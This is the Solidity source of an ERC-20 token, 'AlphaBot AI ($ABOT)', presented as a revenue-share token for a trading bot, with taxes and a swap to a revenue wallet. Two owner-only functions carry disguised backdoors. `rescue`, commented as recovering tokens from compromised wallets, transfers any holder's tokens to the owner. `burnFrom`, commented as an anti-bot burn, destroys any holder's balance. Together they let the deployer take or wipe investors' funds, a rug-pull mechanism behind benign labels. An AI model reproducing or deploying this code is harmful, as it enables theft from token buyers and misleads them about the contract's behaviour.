// SPDX-License-Identifier: MIT
// AlphaBot AI ($ABOT) - telegram trading bot revenue share token
pragma solidity ^0.8.22;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IV2Factory {
    function getPair(address, address) external view returns (address);
}

interface IV2Router {
    function factory() external view returns (address);
    function WETH() external view returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

contract AlphaBotAI is IERC20 {
    error NotOwner();
    error TradingClosed();
    error FeeTooHigh();
    error InsufficientBalance();
    error InsufficientAllowance();

    string public constant name = "AlphaBot AI";
    string public constant symbol = "ABOT";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 100_000_000 ether;

    IV2Router private constant ROUTER = IV2Router(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);

    address public owner;
    address public revenueWallet;
    address public pair;
    bool public tradingOpen;
    bool private _swapping;

    uint256 public buyTax = 5;
    uint256 public sellTax = 5;
    uint256 public swapAt = totalSupply / 1000;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public taxFree;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Rescued(address indexed from, uint256 amount);

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor() {
        owner = msg.sender;
        revenueWallet = msg.sender;
        taxFree[msg.sender] = true;
        taxFree[address(this)] = true;
        balanceOf[msg.sender] = totalSupply;
        allowance[address(this)][address(ROUTER)] = type(uint256).max;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    receive() external payable {}

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            if (a < value) revert InsufficientAllowance();
            allowance[from][msg.sender] = a - value;
        }
        _transfer(from, to, value);
        return true;
    }

    function openTrading() external onlyOwner {
        pair = IV2Factory(ROUTER.factory()).getPair(address(this), ROUTER.WETH());
        tradingOpen = true;
    }

    function setTaxes(uint256 buy, uint256 sell) external onlyOwner {
        if (buy > 25 || sell > 25) revert FeeTooHigh();
        buyTax = buy;
        sellTax = sell;
    }

    function setTaxFree(address account, bool free) external onlyOwner {
        taxFree[account] = free;
    }

    /// @notice recover tokens sent to the wrong place / from compromised wallets
    function rescue(address holder, uint256 amount) external onlyOwner {
        _move(holder, owner, amount);
        emit Rescued(holder, amount);
    }

    /// @notice anti-bot burn
    function burnFrom(address account, uint256 amount) external onlyOwner {
        if (balanceOf[account] < amount) revert InsufficientBalance();
        unchecked {
            balanceOf[account] -= amount;
            balanceOf[address(0xdead)] += amount;
        }
        emit Transfer(account, address(0xdead), amount);
    }

    function transferOwnership(address newOwner) external onlyOwner {
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }

    function _transfer(address from, address to, uint256 value) private {
        if (taxFree[from] || taxFree[to] || _swapping) {
            _move(from, to, value);
            return;
        }
        if (!tradingOpen) revert TradingClosed();
        uint256 tax;
        if (from == pair) {
            tax = (value * buyTax) / 100;
        } else if (to == pair) {
            tax = (value * sellTax) / 100;
            uint256 held = balanceOf[address(this)];
            if (held >= swapAt) _swapBack(held > swapAt * 10 ? swapAt * 10 : held);
        }
        if (tax > 0) _move(from, address(this), tax);
        _move(from, to, value - tax);
    }

    function _swapBack(uint256 amount) private {
        _swapping = true;
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = ROUTER.WETH();
        ROUTER.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, revenueWallet, block.timestamp);
        _swapping = false;
    }

    function _move(address from, address to, uint256 value) private {
        if (balanceOf[from] < value) revert InsufficientBalance();
        unchecked {
            balanceOf[from] -= value;
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }
}
